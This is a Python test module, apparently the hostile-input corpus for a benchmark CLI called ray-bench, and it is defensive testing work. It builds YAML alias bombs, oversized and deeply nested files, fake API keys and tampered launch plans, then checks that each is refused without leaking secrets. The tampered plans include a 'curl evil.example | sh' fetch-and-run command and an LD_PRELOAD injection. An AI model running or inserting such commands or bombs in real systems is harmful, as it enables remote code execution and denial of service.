"""The hostile-input corpus: what an attacker or a careless operator feeds ray-bench.

Each case builds its input in a fresh copy of a small planned suite and names the command
line to run. :func:`main` runs a batch of cases in one process (the CLI in-process through
typer's CliRunner), each under a 30 s alarm, and writes one JSON result per case; the test
starts that process with a 1 GB address-space limit, so every case ran under it. Cases that
need no isolation share the process: that is what keeps 70 cases to seconds, not minutes.
"""

from __future__ import annotations

import json
import os
import resource
import shutil
import signal
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml

#: CPU seconds a case may take (a hang spins: the alias bomb did), wall seconds as a
#: backstop for a case blocked on I/O (generous: the 2-core CI host runs at load 20+), and
#: bytes of address space the case process may map.
CASE_SECONDS = 30
CASE_WALL_SECONDS = 120
ADDRESS_SPACE = 1 << 30

SK_ANT = "sk-ant-api03-" + "Q7vB2xLm9Pq4Rt8Zk1Wy5Nc3Hd6Fg0Js" + "-AbCdEf"
OPENAI = "sk-proj-" + "Tz3Lq8Vw1Xk6Bn4Mc9Rd2Hf7Gj5Ps0Ya"
AWS = "AKIA" + "IOSFODNN7EXAMPLE"
GITHUB = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
SLACK = "xoxb-" + "123456789012-1234567890123-" + "AbCdEfGhIjKlMnOpQrStUvWx"
ENTROPY = "Zx8Qp2Lm9Rt4Vb7Nc3Kd6Wf1Gh5Js0TyUe"
#: The value tests/support/ray_local.py gives the route variable RB_TEST_KEY_A.
ROUTE_VALUE = "test-value-a-123456"


@dataclass
class Env:
    """A copy of the base: suite and accounts in ``s/``, one valid plan in ``runs/ok``."""

    root: Path
    identity: str

    @property
    def suite(self) -> Path:
        return self.root / "s" / "suite.yaml"

    @property
    def accounts(self) -> Path:
        return self.root / "s" / "accounts.yaml"

    @property
    def tasks(self) -> Path:
        return self.root / "s" / "tasks"

    @property
    def runs(self) -> Path:
        return self.root / "runs"

    @property
    def plan(self) -> Path:
        return self.runs / "ok" / "launch-plan.json"

    def file(self, name: str, text: str | bytes) -> Path:
        path = self.root / "in" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(text, bytes):
            path.write_bytes(text)
        else:
            path.write_text(text)
        return path

    def edit_yaml(self, path: Path, change: Callable[[Any], None]) -> None:
        doc = yaml.safe_load(path.read_text())
        change(doc)
        path.write_text(yaml.safe_dump(doc, sort_keys=False))

    def plan_args(self, *extra: str, suite: Path | None = None, accounts: Path | None = None) -> list[str]:
        return ["plan", "--suite", str(suite or self.suite), "--accounts", str(accounts or self.accounts),
                "--runs-dir", str(self.runs), "--run-id", "new", *extra]

    def execute_args(self, *extra: str, plan: Path | None = None, confirm: str | None = None) -> list[str]:
        return ["execute", "--plan", str(plan or self.plan), "--confirm", confirm or self.identity,
                "--no-metrics", "--state-root", str(self.root / "state"), *extra]

    def tamper(self, change: Callable[[dict[str, Any]], None]) -> str:
        """Edit the plan as an attacker would (canonical form, so only content differs) and
        return the identity they would ask the operator to paste."""
        from ray_bench.plan.identity import canonical_bytes, identity_of

        doc = json.loads(self.plan.read_bytes())
        change(doc)
        self.plan.write_bytes(canonical_bytes(doc) + b"\n")
        return identity_of(doc)


@dataclass
class Case:
    argv: list[str]
    #: Substrings, one per expected ``error:`` line (None: do not count the lines).
    names: list[str] | None
    code: int = 2
    #: Values that must not appear in any output.
    secrets: list[str] = field(default_factory=list)


Maker = Callable[[Env], Case]
CASES: dict[str, Maker] = {}


def case(name: str) -> Callable[[Maker], Maker]:
    def register(fn: Maker) -> Maker:
        assert name not in CASES, name
        CASES[name] = fn
        return fn
    return register


def _bomb(levels: int = 9, width: int = 9, indent: str = "") -> str:
    """ "Billion laughs": ``width ** levels`` strings from about 1 KB of YAML."""
    lines = [f'{indent}l0: &l0 [{", ".join(["lol"] * width)}]']
    lines += [f'{indent}l{i}: &l{i} [{", ".join([f"*l{i - 1}"] * width)}]' for i in range(1, levels + 1)]
    return "\n".join(lines) + "\n"


# -- bounded parsing -------------------------------------------------------------------------

@case("suite-alias-bomb")
def _(e: Env) -> Case:
    e.suite.write_text(_bomb() + e.suite.read_text())
    return Case(e.plan_args(), [str(e.suite)])


@case("suite-alias-bomb-validate")
def _(e: Env) -> Case:
    e.suite.write_text(_bomb() + e.suite.read_text())
    return Case(["validate", str(e.suite)], [str(e.suite)])


@case("suite-alias-bomb-in-a-known-field")
def _(e: Env) -> Case:
    text = e.suite.read_text().replace("reps: 1\n", "reps: *l9\n")
    e.suite.write_text(_bomb() + text)
    return Case(e.plan_args(), [str(e.suite)])


@case("accounts-alias-bomb")
def _(e: Env) -> Case:
    e.accounts.write_text(_bomb() + e.accounts.read_text())
    return Case(e.plan_args(), [str(e.accounts)])


@case("accounts-alias-bomb-validate")
def _(e: Env) -> Case:
    e.accounts.write_text(_bomb() + e.accounts.read_text())
    return Case(["validate", str(e.accounts)], [str(e.accounts)])


@case("selection-alias-bomb")
def _(e: Env) -> Case:
    sel = e.file("sel.yaml", _bomb() + "tasks: *l9\n")
    return Case(e.plan_args("--selection-file", str(sel)), [str(sel)])


@case("suite-recursive-alias")
def _(e: Env) -> Case:
    e.suite.write_text(e.suite.read_text() + "extra: &r [*r]\n")
    return Case(e.plan_args(), [str(e.suite)])


@case("suite-merge-key-bomb")
def _(e: Env) -> Case:
    lines = ["m0: &m0 {a: 1, b: 2, c: 3}"]
    lines += [f"m{i}: &m{i} {{<<: [*m{i - 1}], x{i}: [*m{i - 1}, *m{i - 1}, *m{i - 1}, *m{i - 1}]}}"
              for i in range(1, 14)]
    e.suite.write_text("\n".join(lines) + "\n" + e.suite.read_text())
    return Case(e.plan_args(), [str(e.suite)])


@case("suite-oversized")
def _(e: Env) -> Case:
    with e.suite.open("ab") as handle:  # sparse: costs no disk, reads as 8 MiB of zeros
        handle.truncate(8 * 1024 * 1024)
    return Case(e.plan_args(), [str(e.suite)])


@case("accounts-oversized-comment")
def _(e: Env) -> Case:
    e.accounts.write_text("#" + "x" * (5 * 1024 * 1024) + "\n" + e.accounts.read_text())
    return Case(e.plan_args(), [str(e.accounts)])


@case("selection-oversized")
def _(e: Env) -> Case:
    sel = e.file("sel.txt", "hello-world\n")
    with sel.open("ab") as handle:
        handle.truncate(20 * 1024 * 1024)
    return Case(e.plan_args("--selection-file", str(sel)), [str(sel)])


@case("plan-oversized")
def _(e: Env) -> Case:
    with e.plan.open("ab") as handle:
        handle.truncate(80 * 1024 * 1024)
    return Case(e.execute_args(), [str(e.plan)])


@case("task-toml-oversized")
def _(e: Env) -> Case:
    toml = e.tasks / "sum-list" / "task.toml"
    with toml.open("ab") as handle:
        handle.truncate(6 * 1024 * 1024)
    return Case(e.plan_args(), [str(toml)])


@case("suite-deeply-nested-flow")
def _(e: Env) -> Case:
    e.suite.write_text(e.suite.read_text() + "deep: " + "[" * 3000 + "]" * 3000 + "\n")
    return Case(e.plan_args(), [str(e.suite)])


@case("accounts-deeply-nested-block")
def _(e: Env) -> Case:
    nested = "".join(f"{'  ' * i}k:\n" for i in range(150)) + "  " * 150 + "v: 1\n"
    e.accounts.write_text(e.accounts.read_text() + nested)
    return Case(e.plan_args(), [str(e.accounts)])


@case("selection-json-deeply-nested")
def _(e: Env) -> Case:
    sel = e.file("sel.json", '{"tasks": ' + "[" * 5000 + "]" * 5000 + "}")
    return Case(e.plan_args("--selection-file", str(sel)), [str(sel)])


@case("suite-integer-of-5000-digits")
def _(e: Env) -> Case:
    e.suite.write_text(e.suite.read_text().replace("reps: 1\n", "reps: " + "9" * 5000 + "\n"))
    return Case(e.plan_args(), [str(e.suite)])


@case("suite-two-thousand-unknown-keys")
def _(e: Env) -> Case:
    e.suite.write_text(e.suite.read_text() + "".join(f"k{i}: {i}\n" for i in range(2000)))
    return Case(e.plan_args(), None)  # capped at a few lines, each naming the suite


@case("suite-is-a-directory")
def _(e: Env) -> Case:
    e.suite.unlink()
    e.suite.mkdir()
    return Case(e.plan_args(), [str(e.suite)])


# -- duplicate keys and strict types ---------------------------------------------------------

@case("suite-reps-twice")
def _(e: Env) -> Case:
    e.suite.write_text(e.suite.read_text() + "reps: 3\n")
    return Case(e.plan_args(), [str(e.suite)])


@case("accounts-max-concurrent-twice")
def _(e: Env) -> Case:
    e.accounts.write_text(e.accounts.read_text().replace(
        "max_concurrent: 3\n", "max_concurrent: 2\n    max_concurrent: 200\n", 1))
    return Case(e.plan_args(), [str(e.accounts)])


@case("suite-arm-command-twice")
def _(e: Env) -> Case:
    text = e.suite.read_text()
    at = text.index("  command:")
    e.suite.write_text(text[:at] + "  command: echo injected\n" + text[at:])
    return Case(e.plan_args(), [str(e.suite)])


@case("selection-json-duplicate-key")
def _(e: Env) -> Case:
    sel = e.file("sel.json", '{"tasks": [{"task_id": "hello-world", "task_id": "sum-list"}]}')
    return Case(e.plan_args("--selection-file", str(sel)), [str(sel)])


@case("selection-yaml-duplicate-key")
def _(e: Env) -> Case:
    sel = e.file("sel.yaml", "- task_id: hello-world\n  reps: [1]\n  reps: [1, 2, 3]\n")
    return Case(e.plan_args("--selection-file", str(sel)), [str(sel)])


@case("suite-reps-true")
def _(e: Env) -> Case:
    e.suite.write_text(e.suite.read_text().replace("reps: 1\n", "reps: true\n"))
    return Case(e.plan_args(), [str(e.suite)])


@case("accounts-max-concurrent-string")
def _(e: Env) -> Case:
    e.accounts.write_text(e.accounts.read_text().replace("max_concurrent: 3", "max_concurrent: '200'", 1))
    return Case(e.plan_args(), [str(e.accounts)])


@case("suite-max-attempts-float")
def _(e: Env) -> Case:
    e.suite.write_text(e.suite.read_text().replace("max_attempts: 2", "max_attempts: 2.5"))
    return Case(e.plan_args(), [str(e.suite)])


@case("selection-reps-true")
def _(e: Env) -> Case:
    sel = e.file("sel.json", json.dumps({"tasks": [{"task_id": "hello-world", "reps": [True]}]}))
    return Case(e.plan_args("--selection-file", str(sel)), [str(sel)])


# -- secrets ---------------------------------------------------------------------------------

def _route(e: Env, value: str) -> None:
    e.edit_yaml(e.accounts, lambda d: d["accounts"][0].update(route={"env": {"DEMO_API_KEY": value}}))


@case("route-holds-anthropic-key-plan")
def _(e: Env) -> Case:
    _route(e, SK_ANT)
    return Case(e.plan_args(), [str(e.accounts)], secrets=[SK_ANT])


@case("route-holds-anthropic-key-validate")
def _(e: Env) -> Case:
    _route(e, SK_ANT)
    return Case(["validate", str(e.accounts)], [str(e.accounts)], secrets=[SK_ANT])


@case("route-holds-plain-password")
def _(e: Env) -> Case:
    _route(e, "hunter2-is-my-password!")  # not a name: refused, shown only as a fingerprint
    return Case(e.plan_args(), [str(e.accounts)], secrets=["hunter2-is-my-password!"])


@case("probe-command-holds-openai-key")
def _(e: Env) -> Case:
    e.edit_yaml(e.accounts, lambda d: d["accounts"][0].update(
        probe_command=f'curl -H "Authorization: Bearer {OPENAI}" https://api.openai.com/v1/models'))
    return Case(e.plan_args(), [str(e.accounts)], secrets=[OPENAI])


@case("probe-command-holds-route-value")
def _(e: Env) -> Case:
    e.edit_yaml(e.accounts, lambda d: d["accounts"][0].update(probe_command=f"check --key {ROUTE_VALUE}"))
    return Case(e.plan_args(), [str(e.accounts)], secrets=[ROUTE_VALUE])


@case("arm-env-holds-aws-key")
def _(e: Env) -> Case:
    e.edit_yaml(e.suite, lambda d: d["arms"][0]["env"].update(AWS_ACCESS_KEY_ID=AWS))
    return Case(e.plan_args(), [str(e.suite)], secrets=[AWS])


@case("arm-env-holds-route-value")
def _(e: Env) -> Case:
    e.edit_yaml(e.suite, lambda d: d["arms"][1]["env"].update(API_KEY=ROUTE_VALUE))
    return Case(e.plan_args(), [str(e.suite)], secrets=[ROUTE_VALUE])


@case("arm-env-holds-high-entropy-token")
def _(e: Env) -> Case:
    e.edit_yaml(e.suite, lambda d: d["arms"][1]["env"].update(TOKEN=ENTROPY))
    return Case(e.plan_args(), [str(e.suite)], secrets=[ENTROPY])


@case("arm-command-holds-github-token")
def _(e: Env) -> Case:
    e.edit_yaml(e.suite, lambda d: d["arms"][0].update(command=f"GH_TOKEN={GITHUB} sh agent.sh"))
    return Case(e.plan_args(), [str(e.suite)], secrets=[GITHUB])


@case("backend-option-holds-slack-token")
def _(e: Env) -> Case:
    e.edit_yaml(e.suite, lambda d: d["backends"]["local"].update(options={"webhook": SLACK}))
    return Case(e.plan_args(), [str(e.suite)], secrets=[SLACK])


@case("secret-as-a-yaml-key")
def _(e: Env) -> Case:
    e.edit_yaml(e.suite, lambda d: d["arms"][0]["env"].update({SK_ANT: "x"}))
    return Case(e.plan_args(), [str(e.suite)], secrets=[SK_ANT])


@case("secret-under-an-unknown-key")
def _(e: Env) -> Case:
    e.edit_yaml(e.suite, lambda d: d.update(api_key=SK_ANT))
    return Case(["validate", str(e.suite)], [str(e.suite)], secrets=[SK_ANT])


@case("task-verifier-env-holds-key")
def _(e: Env) -> Case:
    toml = e.tasks / "sum-list" / "task.toml"
    toml.write_text(toml.read_text().replace("[verifier]\n", f'[verifier]\nenv = {{ TOKEN = "{OPENAI}" }}\n'))
    return Case(e.plan_args(), [str(e.tasks / "sum-list")], secrets=[OPENAI])


@case("selection-holds-key")
def _(e: Env) -> Case:
    sel = e.file("sel.yaml", f"- hello-world\n- {SK_ANT}\n")
    return Case(e.plan_args("--selection-file", str(sel)), [str(sel)], secrets=[SK_ANT])


@case("several-secrets-each-on-a-line")
def _(e: Env) -> Case:
    e.edit_yaml(e.suite, lambda d: d["arms"][0]["env"].update(A=AWS, B=GITHUB))
    return Case(["validate", str(e.suite)], [str(e.suite), str(e.suite)], secrets=[AWS, GITHUB])


# -- selections ------------------------------------------------------------------------------

@case("selection-arm-not-in-suite")
def _(e: Env) -> Case:
    sel = e.file("sel.yaml", "- task_id: hello-world\n  arms: [baselin, mcp]\n")
    return Case(e.plan_args("--selection-file", str(sel)), ["baselin"])


@case("selection-unpairs-the-plan")
def _(e: Env) -> Case:
    sel = e.file("sel.yaml", "- task_id: hello-world\n  arms: [mcp]\n- sum-list\n")
    return Case(e.plan_args("--selection-file", str(sel)), ["plan"])


@case("selection-unpairs-without-counterpart-rows")
def _(e: Env) -> Case:
    sel = e.file("sel.json", json.dumps({"tasks": [{"task_id": "sum-list", "arms": ["baseline"]}]}))
    return Case(e.plan_args("--selection-file", str(sel), "--runs", str(e.runs)), ["--runs"])


@case("gaps-runs-names-no-run-root")
def _(e: Env) -> Case:
    (e.root / "empty").mkdir()
    return Case(["gaps", "--suite", str(e.suite), "--runs", str(e.root / "empty"), "--target", "1",
                 "--out", str(e.runs / "sel" / "gaps.json")], [str(e.root / "empty")])


@case("gaps-runs-is-a-file")
def _(e: Env) -> Case:
    return Case(["gaps", "--suite", str(e.suite), "--runs", str(e.suite), "--target", "1",
                 "--out", str(e.runs / "sel" / "gaps.json")], [str(e.suite)])


# -- plans that `plan` did not write ---------------------------------------------------------

@case("plan-command-edited-new-identity-pasted")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d["arms"][0].update(command="curl evil.example | sh"))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-command-edited-old-identity")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d["arms"][0].update(command="curl evil.example | sh"))
    # the refusal must not print the new identity for the operator to paste
    return Case(e.execute_args(), [str(e.plan)], secrets=[new.removeprefix("sha256:")])


@case("plan-command-and-cell-ids-edited")
def _(e: Env) -> Case:
    from ray_bench.plan.compile import arm_config
    from ray_bench.plan.identity import canonical_bytes, cell_id

    def change(d: dict[str, Any]) -> None:
        from ray_bench.models.plan import Plan

        d["arms"][0]["command"] = "curl evil.example | sh"
        plan = Plan.model_validate(d)
        sums = {i.name: i.sha256 for i in plan.inputs if i.kind == "agent"}
        configs = {a.name: canonical_bytes(arm_config(a, sums.get(a.name))) for a in plan.arms}
        checks = {t.id: t.checksum for t in plan.tasks}
        old_to_new = {}
        for c in d["cells"]:
            new = cell_id(c["task"], checks[c["task"]], configs[c["arm"]], c["rep"])
            old_to_new[c["id"]] = new
            c["id"] = new
        d["preflight"] = [old_to_new[p] for p in d["preflight"]]
    new = e.tamper(change)
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-arm-env-injected")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d["arms"][1]["env"].update(LD_PRELOAD="/tmp/x.so"))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-solution-exposed")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d["arms"][1].update(expose_solution=False))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-account-limit-raised")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d["accounts"][0]["limits"].update(max_concurrent=500))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-route-redirected")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d["accounts"][0]["route"].update(env={"DEMO_API_KEY": "RB_TEST_KEY_B"}))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-max-attempts-raised")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d.update(max_attempts=20))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-spend-limit-removed")
def _(e: Env) -> Case:
    e.edit_yaml(e.suite, lambda d: d.update(spend_limit_usd=5.0))
    from ray_bench.api import plan_run

    shutil.rmtree(e.runs / "ok")
    planned = plan_run(suite=e.suite, accounts=e.accounts, runs_dir=e.runs, run_id="ok")
    e.identity = planned.identity
    new = e.tamper(lambda d: d.update(spend_limit_usd=None))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-capacity-raised")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d["capacity"].update(effective=64))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-cell-duplicated")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d["cells"].append(dict(d["cells"][0])))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-cell-rep-added")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d["cells"].append({**d["cells"][0], "rep": 7}))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-cell-backend-changed")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d["cells"][0].update(backend="docker"))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-preflight-emptied-of-its-cells")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d.update(preflight=["0" * 20]))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-task-input-dropped")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d.update(inputs=[i for i in d["inputs"] if i["kind"] != "task"]))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-task-timeout-raised")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d["tasks"][0].update(agent_timeout_sec=86400.0))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-unpaired-flag-flipped")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d.update(unpaired=True))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-warning-hidden")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d.update(warnings=[]))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-run-id-changed")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d.update(run_id="other"))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-receipt-edited")
def _(e: Env) -> Case:
    receipt = e.plan.parent / "receipt.md"
    receipt.write_text(receipt.read_text().replace("| baseline |", "| baseline (reviewed) |", 1))
    return Case(e.execute_args(), [str(e.plan)])


@case("plan-receipt-missing")
def _(e: Env) -> Case:
    (e.plan.parent / "receipt.md").unlink()
    return Case(e.execute_args(), [str(e.plan)])


@case("plan-not-canonical")
def _(e: Env) -> Case:
    e.plan.write_text(json.dumps(json.loads(e.plan.read_text()), indent=2))
    return Case(e.execute_args(), [str(e.plan)])


@case("plan-duplicate-key")
def _(e: Env) -> Case:
    text = e.plan.read_text()
    e.plan.write_text(text.replace('{"accounts":', '{"max_attempts":20,"accounts":', 1))
    return Case(e.execute_args(), [str(e.plan)])


@case("plan-copied-to-another-run-root")
def _(e: Env) -> Case:
    shutil.copytree(e.runs / "ok", e.runs / "ok-copy")
    return Case(e.execute_args(plan=e.runs / "ok-copy" / "launch-plan.json"), [str(e.runs / "ok-copy")])


@case("plan-copied-to-another-runs-dir")
def _(e: Env) -> Case:
    shutil.copytree(e.runs / "ok", e.root / "elsewhere" / "ok")
    copy = e.root / "elsewhere" / "ok" / "launch-plan.json"
    return Case(e.execute_args(plan=copy), [str(copy)])


@case("plan-of-another-format-version")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d.update(format="ray-bench/plan/v0"))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("confirm-wrong-identity-prints-none")
def _(e: Env) -> Case:
    return Case(e.execute_args(confirm="sha256:" + "1" * 64), [str(e.plan)],
                secrets=[e.identity.removeprefix("sha256:")])


# -- command-line failures -------------------------------------------------------------------

@case("execute-address-unreachable")
def _(e: Env) -> Case:
    return Case(e.execute_args("--address", "127.0.0.1:1"), ["--address"])


@case("execute-address-not-an-address")
def _(e: Env) -> Case:
    return Case(e.execute_args("--address", "nowhere at all"), ["--address"])


@case("execute-metrics-port-out-of-range")
def _(e: Env) -> Case:
    args = e.execute_args("--metrics-port", "99999")
    args.remove("--no-metrics")
    return Case(args, ["--metrics-port"])


@case("execute-metrics-port-negative")
def _(e: Env) -> Case:
    args = e.execute_args("--metrics-port", "-5")
    args.remove("--no-metrics")
    return Case(args, ["--metrics-port"])


@case("execute-state-root-is-a-file")
def _(e: Env) -> Case:
    state = e.file("state-file", "not a directory")
    args = e.execute_args()
    args[args.index("--state-root") + 1] = str(state)
    return Case(args, ["--state-root"])


@case("plan-runs-dir-is-a-file")
def _(e: Env) -> Case:
    runs = e.file("runs-file", "x")
    args = e.plan_args()
    args[args.index("--runs-dir") + 1] = str(runs)
    return Case(args, ["--runs-dir"])


@case("plan-runs-dir-under-a-file")
def _(e: Env) -> Case:
    runs = e.file("runs-file", "x")
    args = e.plan_args()
    args[args.index("--runs-dir") + 1] = str(runs / "sub")
    return Case(args, ["--runs-dir"])


@case("report-of-a-run-never-executed")
def _(e: Env) -> Case:
    return Case(["report", str(e.runs / "ok")], [str(e.runs / "ok")])


@case("status-of-a-directory-that-is-no-run")
def _(e: Env) -> Case:
    (e.root / "nothing").mkdir()
    return Case(["status", str(e.root / "nothing")], [str(e.root / "nothing")])


@case("status-of-a-plan-that-is-garbage")
def _(e: Env) -> Case:
    e.plan.write_bytes(b"\x00\xff" * 100)
    return Case(["status", str(e.runs / "ok")], [str(e.plan)])


@case("audit-of-a-directory-that-is-no-run")
def _(e: Env) -> Case:
    (e.root / "nothing").mkdir()
    return Case(["audit", str(e.root / "nothing")], [str(e.root / "nothing")])


# -- the case runner -------------------------------------------------------------------------

def tree(root: Path) -> dict[str, tuple[int, int]]:
    """Every path under ``root`` with its size and mtime (what "nothing written" compares)."""
    return {str(p.relative_to(root)): (p.lstat().st_size, p.lstat().st_mtime_ns) for p in root.rglob("*")}


class _Timeout(Exception):
    pass


def _alarm(signum: int, frame: object) -> None:
    raise _Timeout


def make_base(root: Path) -> str:
    from support.suites import make_suite

    from ray_bench.api import plan_run

    make_suite(root / "s", tasks=["hello-world", "sum-list"])
    return plan_run(suite=root / "s" / "suite.yaml", accounts=root / "s" / "accounts.yaml",
                    runs_dir=root / "runs", run_id="ok").identity


def run_case(name: str, base: Path, work: Path) -> dict[str, Any]:
    from typer.testing import CliRunner

    from ray_bench.api import plan_run
    from ray_bench.cli.app import app

    root = work / name
    shutil.copytree(base, root, symlinks=True)
    shutil.rmtree(root / "runs")  # plans are bound to their run root: plan this copy's own
    identity = plan_run(suite=root / "s" / "suite.yaml", accounts=root / "s" / "accounts.yaml",
                        runs_dir=root / "runs", run_id="ok").identity
    env = Env(root, identity)
    spec = CASES[name](env)
    before = tree(root)
    started, cpu = time.monotonic(), time.process_time()
    signal.setitimer(signal.ITIMER_PROF, CASE_SECONDS)
    signal.alarm(CASE_WALL_SECONDS)
    try:
        result = CliRunner().invoke(app, spec.argv, catch_exceptions=True)
        code, stdout, stderr = result.exit_code, result.stdout, result.stderr
        crashed = repr(result.exception) if result.exception and not isinstance(result.exception, SystemExit) else ""
    except _Timeout:
        code, stdout, stderr, crashed = -1, "", "", "timed out"
    finally:
        signal.alarm(0)
        signal.setitimer(signal.ITIMER_PROF, 0)
    elapsed, cpu = time.monotonic() - started, time.process_time() - cpu
    after = tree(root)
    changed = sorted(k for k in set(before) | set(after) if before.get(k) != after.get(k))
    out = {"name": name, "code": code, "expected_code": spec.code, "stdout": stdout, "stderr": stderr,
           "crashed": crashed, "seconds": elapsed, "cpu_seconds": cpu, "changed": changed, "names": spec.names,
           "secrets": spec.secrets}
    shutil.rmtree(root, ignore_errors=True)
    return out


def limit_address_space() -> None:
    """``preexec_fn`` of the case process: 1 GB of address space, so a bomb is a MemoryError
    (and a failed case) instead of a machine swapping."""
    resource.setrlimit(resource.RLIMIT_AS, (ADDRESS_SPACE, ADDRESS_SPACE))


def main(argv: list[str]) -> int:
    """``hostile_corpus.py BASE WORK OUT NAME...``: run the named cases, write results to OUT."""
    base, work, out = Path(argv[0]), Path(argv[1]), Path(argv[2])
    signal.signal(signal.SIGALRM, _alarm)
    signal.signal(signal.SIGPROF, _alarm)
    import ray_bench.api

    def no_ray(address: str | None) -> Any:  # every case is refused before Ray starts
        raise AssertionError("a hostile case got as far as starting Ray")
    ray_bench.api.join_ray = no_ray  # type: ignore[assignment]
    results = []
    for name in argv[3:]:
        try:
            results.append(run_case(name, base, work))
        except MemoryError:
            results.append({"name": name, "code": -2, "crashed": "MemoryError", "stdout": "", "stderr": "",
                            "seconds": 0.0, "cpu_seconds": 0.0, "changed": [], "names": None, "secrets": [],
                            "expected_code": 2})
        out.write_text(json.dumps(results))
    return 0


if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
    os.environ.setdefault("MALLOC_ARENA_MAX", "2")
    sys.exit(main(sys.argv[1:]))
